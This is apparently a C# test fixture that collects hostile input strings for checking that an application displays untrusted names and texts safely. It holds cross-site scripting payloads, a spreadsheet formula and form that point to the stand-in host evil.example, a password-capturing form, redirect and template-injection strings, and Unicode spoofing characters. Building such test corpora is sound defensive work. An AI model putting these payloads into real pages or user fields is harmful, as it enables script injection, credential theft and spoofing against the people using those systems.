using System.Globalization;

namespace Concave.Testing.Hostile;

/// <summary>What somebody might write who wants more of a reader than to be read.</summary>
public static class Corpus
{
    /// <summary>In every text of it, so that a test sees that a page shows it at all.</summary>
    public const string Sign = "hostile7";

    private const string Override = "\u202egnp.\u2066";

    /// <summary>A name: of a person, a client, a project, a pair.</summary>
    public const string Name = $"{Sign} <script>alert(1)</script><img src=//evil.example/x onerror=alert(2)>\"' onfocus=alert(3) x='{Override}";

    /// <summary>The same where a name with invisible characters is refused.</summary>
    public static readonly string Plain = string.Concat(Name.Where(c => char.GetUnicodeCategory(c) != UnicodeCategory.Format));

    /// <summary>What a spreadsheet would run.</summary>
    public const string Formula = $"=HYPERLINK(\"//evil.example/{Sign}\",\"x\")";

    /// <summary>A text of a model, a client or an annotator.</summary>
    public static readonly string Text = string.Join('\n',
    [
        Name,
        Formula,
        "<svg onload=alert(4)><style>*{display:none}</style><iframe srcdoc='<script>alert(5)</script>'></iframe><base href=//evil.example/>",
        "![picture](//evil.example/p.png) [a link](javascript:alert(6)) <https://evil.example/a> [b]: //evil.example \"t\"",
        "<form action=//evil.example/><input name=password autofocus onfocus=alert(7)></form><meta http-equiv=refresh content='0;url=//evil.example'>",
        "</textarea></select></title></script><!-- <![CDATA[ {{constructor.constructor('alert(8)')()}} ${alert(9)} @(1+1)",
        $"{Override}\u2028\ufeff\u0000\u001b[31m \U000e0041\U000e0042 аdmin (a Cyrillic letter) paypaⅼ",
        "```html\n<script>alert(10)</script>\n```\n$$\\href{javascript:alert(11)}{x}$$",
    ]).Replace("\0", "", StringComparison.Ordinal);

    /// <summary>One line of a megabyte.</summary>
    public static readonly string Line = $"{Sign} <b>{new string('a', 1 << 20)}";
}
